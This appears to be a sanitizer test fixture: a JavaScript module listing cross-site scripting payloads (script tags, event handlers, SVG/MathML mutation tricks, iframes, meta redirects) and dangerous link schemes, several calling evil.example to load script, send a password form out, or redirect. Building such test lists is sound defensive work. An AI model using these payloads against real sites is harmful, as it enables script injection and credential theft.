/** What runs if a browser takes it for script: it leaves a mark, renames the page, or asks another host. */
const RUN = 'window.hostile=1';

/** Markup that must come out as text where text is meant, and harmless where rich text is. All fit into a title. */
export const markup = [
  ...[
    `<script>${RUN}</script>`,
    `<ScRiPt >${RUN}</sCrIpT >`,
    `<script/x>${RUN}</script/x>`,
    `<<script>${RUN}//<</script>`,
  ],
  ...[
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `</title><script>${RUN}</script>`,
    `</script><script>${RUN}</script>`,
  ],
  ...[
    '<script src=https://evil.example/x.js></script>',
    '<script src="data:text/javascript,window.hostile=1"></script>',
  ],
  ...[`<img src=x onerror=${RUN}>`, `<img/src=x/onerror=${RUN}>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`],
  ...[`<img src="x" onerror="${RUN}"`, `<img src='x' onerror='${RUN}' `, `<img src=x:x onerror\n=\n${RUN}>`],
  ...[
    '<img src=https://evil.example/pixel.gif>',
    '<img src=//evil.example/pixel.gif>',
    '<img srcset="//evil.example/x 1x">',
  ],
  ...['<img src="/files/../api/setting">', '<picture><source srcset=https://evil.example/x><img src=x></picture>'],
  ...[`<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, '<svg><use href="https://evil.example/x#y"/></svg>'],
  ...[
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a>`,
  ],
  ...[`<svg><style><img src=x onerror=${RUN}></style>`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`],
  ...[`<math href="javascript:${RUN}">x</math>`, `<math><annotation-xml encoding="text/html"><img src onerror=${RUN}>`],
  ...[`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<noembed><img title="</noembed><svg onload=${RUN}>">`,
  ],
  ...[`<textarea><img title="</textarea><img src=x onerror=${RUN}>">`, `<xmp><p title="</xmp><svg onload=${RUN}>">`],
  ...[
    `<template><script>${RUN}</script></template>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--<img src="--><img src=x onerror=${RUN}//">`,
  ],
  ...[
    `<![CDATA[><img src=x onerror=${RUN}>]]>`,
    `<?xml ?><img src=x onerror=${RUN}>`,
    `<!doctype x [<!ENTITY y "<svg onload=${RUN}>">]>`,
  ],
  ...[`<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`],
  ...[
    '<iframe src=https://evil.example></iframe>',
    '<object data=https://evil.example/x></object>',
    '<embed src=https://evil.example/x>',
  ],
  ...['<base href=https://evil.example/>', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ...['<link rel=stylesheet href=https://evil.example/x.css>', '<style>@import "https://evil.example/x.css";</style>'],
  ...[
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<table background=https://evil.example/x><tr><td>x</table>',
  ],
  ...[
    '<form action=https://evil.example><input name=password><button>x</form>',
    `<button formaction="javascript:${RUN}">x`,
  ],
  ...[
    `<input autofocus onfocus=${RUN}>`,
    `<p tabindex=1 autofocus onfocus=${RUN}>x</p>`,
    `<details open ontoggle=${RUN}>x`,
  ],
  ...[
    `<video src=x onerror=${RUN}>`,
    `<audio src=https://evil.example/x autoplay>`,
    `<body onload=${RUN}>`,
    `<marquee onstart=${RUN}>`,
  ],
  ...[`"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `" onmouseover="${RUN}`, `--><script>${RUN}</script>`],
  ...[
    `</style><script>${RUN}</script>`,
    `</textarea><script>${RUN}</script>`,
    `</p></div></main></body><script>${RUN}</script>`,
  ],
  ...[
    '\u003cscript\u003ewindow.hostile=1\u003c/script\u003e',
    '&lt;script&gt;window.hostile=1&lt;/script&gt;',
    `{{constructor.constructor('${RUN}')()}}`,
  ],
  ...[
    `<a href="javascript:${RUN}" autofocus>x</a>`,
    `<p><a href='/' onclick="${RUN}">x</a>`,
    '\u2028</script>\u2029<b',
  ],
].map((payload) => payload.replace(/[\u2028\u2029\n]/g, ' '));

/** Addresses that lead to no web page, or that look like one and are none. */
export const links = [
  ...[
    'javascript:window.hostile=1',
    'JaVaScRiPt:window.hostile=1',
    ' javascript:window.hostile=1',
    '\u0001javascript:window.hostile=1',
  ],
  ...[
    'java\tscript:window.hostile=1',
    'java\nscript:window.hostile=1',
    'javascript&colon;window.hostile=1',
    '&#106;avascript:window.hostile=1',
  ],
  ...[
    'javascript://https://x.example/%0awindow.hostile=1',
    'javascript%3Awindow.hostile=1',
    'view-source:javascript:window.hostile=1',
  ],
  ...[
    'data:text/html,<script>window.hostile=1</script>',
    'DATA:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox(1)',
    'livescript:x',
  ],
  ...[
    '//evil.example',
    '\\\\evil.example',
    '/\\evil.example',
    'https:evil.example',
    'https:/evil.example',
    'http:\\\\evil.example',
  ],
  ...[
    'file:///etc/passwd',
    'ftp://evil.example',
    'blob:https://evil.example/x',
    'filesystem:https://evil.example/x',
    'about:blank',
  ],
  ...[
    'mailto:x@evil.example',
    'tel:1',
    'ws://evil.example',
    'feed:https://evil.example',
    'jar:https://evil.example!/x',
    'evil.example',
  ],
  ...[
    'https://',
    'http://[',
    'https://evil example',
    'https://evil.example\\x',
    'https://evil.example/\u0000',
    'x\nhttps://evil.example',
  ],
];
